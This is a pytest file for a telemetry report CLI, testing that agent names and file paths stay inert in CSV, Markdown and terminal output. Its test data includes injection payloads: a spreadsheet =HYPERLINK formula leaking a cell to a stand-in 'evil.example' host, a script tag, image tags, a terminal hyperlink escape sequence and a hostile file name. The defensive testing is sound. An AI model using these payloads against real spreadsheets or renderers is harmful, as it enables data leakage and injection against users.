"""Names from a run are text in every report format: a spreadsheet runs no formula, Markdown makes no link,
image, heading or HTML of them, and the terminal reads no markup or escape sequence in them."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path

import pytest

from rollout_telemetry._cli.main import main
from tests.support import RenderedMarkdown, markdown_renderers

# Each hostile agent name, and the text it must come back as in a table cell (Markdown's, the terminal's):
# control characters written as their escapes, every other character as it is.
HOSTILE = {
    '=HYPERLINK("https://evil.example/?leak="&A1,"click")': '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "+1+1": "+1+1",
    "-2+3": "-2+3",
    "@SUM(A1)": "@SUM(A1)",
    "\t=1+1": "\\t=1+1",
    "\r=1+1": "\\r=1+1",
    "bare\rCR": "bare\\rCR",
    "x\n# Heading\n![t](https://evil.example/t.png)": "x\\n# Heading\\n![t](https://evil.example/t.png)",
    "<img src=https://evil.example/t.png>": "<img src=https://evil.example/t.png>",
    "<script>alert(1)</script>": "<script>alert(1)</script>",
    "[click](https://evil.example) <https://evil.example>": "[click](https://evil.example) <https://evil.example>",
    "*em* _em_ `code` a|b \\ &amp; ~~s~~ $x$ {#id}": "*em* _em_ `code` a|b \\ &amp; ~~s~~ $x$ {#id}",
    "[/x]": "[/x]",
    "[link=https://evil.example]click[/link]": "[link=https://evil.example]click[/link]",
    "[bold red]x": "[bold red]x",
    "x\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\": (
        "x\\x1b]8;;https://evil.example\\x1b\\click\\x1b]8;;\\x1b\\"
    ),
    "snake_case_agent": "snake_case_agent",
}


def _run(path: Path, names: list[str]) -> Path:
    """A run's file with two rewards (1.0 and -0.5) for each of ``names``."""
    rows = [
        {
            "reward": reward,
            "mask_sample": False,
            "_ng_task_index": task,
            "_ng_rollout_index": index,
            "agent_ref": {"name": name},
        }
        for task, name in enumerate(names)
        for index, reward in enumerate((1.0, -0.5))
    ]
    path.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    return path


def test_csv_cells_are_text_a_spreadsheet_does_not_run(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Read back as a spreadsheet reads it: a row per agent, each as wide as the header, every text cell
    quoted (a CR stays inside its field, written ``\\r``) and starting with ``'`` where it would start a
    formula; the numbers, a negative one too, are bare numbers."""
    path = _run(tmp_path / "run.jsonl", list(HOSTILE))
    assert main(["report", str(path), "--format", "csv"]) == 0
    out = capsys.readouterr().out
    header, *rows = csv.reader(io.StringIO(out, newline=""))
    assert len(rows) == len(HOSTILE)
    assert all(len(row) == len(header) for row in rows)
    cells = {row[header.index("agent")]: row for row in rows}
    for name, shown in HOSTILE.items():
        expected = "'" + shown if name[0] in "=+-@" else shown
        assert expected in cells, name
    assert '\'=HYPERLINK("https://evil.example/?leak="&A1,"click")' in cells
    assert {"'+1+1", "'-2+3", "'@SUM(A1)", "\\t=1+1", "\\r=1+1", "bare\\rCR"} <= set(cells)
    # A reader that takes what is unquoted for a number: the text is text, the figures floats.
    header, *typed = csv.reader(io.StringIO(out, newline=""), quoting=csv.QUOTE_NONNUMERIC)
    for row in typed:
        text = [cell for cell in row if isinstance(cell, str)]
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")) for cell in text), row
        figures: dict[object, object] = dict(zip(header, row, strict=True))
        assert isinstance(figures["agent"], str)
        assert isinstance(figures["file"], str)
        assert (figures["measured"], figures["mean_reward"]) == (2.0, 0.25)
        assert figures["mean_reward_ci95_low"] == -0.5  # a negative number is a number, not a formula


@pytest.mark.parametrize(("renderer", "render"), markdown_renderers())
def test_markdown_names_and_paths_are_inert_text(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], renderer: str, render: Callable[[str], str]
) -> None:
    """Rendered with HTML enabled, two runs' Markdown (one run's file named as an attack) holds exactly a
    table row per agent and the two headings, no image, script, link or other heading; each name and path is
    the text of its cell or heading."""
    names = list(HOSTILE)
    hostile_path = _run(tmp_path / "x\n# h1 ![i](evil.png) <img src=x> [a](b) #.jsonl", names)
    plain = _run(tmp_path / "plain.jsonl", ["math_agent"])
    assert main(["report", str(hostile_path), str(plain), "--format", "markdown"]) == 0
    text = capsys.readouterr().out
    rendered = RenderedMarkdown(render(text))
    assert [row[0].strip() for row in rendered.rows] == [
        *(HOSTILE[name] for name in sorted(names)),
        "math_agent",
    ]
    assert all(len(row) == 12 for row in rendered.rows)
    shown_path = str(hostile_path).replace("\n", "\\n")
    assert [heading.strip() for heading in rendered.headings] == [shown_path, str(plain)]
    allowed = {"h3", "table", "thead", "tbody", "tr", "th", "td", "ul", "li", "em", "p"}
    assert set(rendered.tags) <= allowed, f"{renderer}: {set(rendered.tags) - allowed}"
    assert rendered.tags.count("h3") == 2
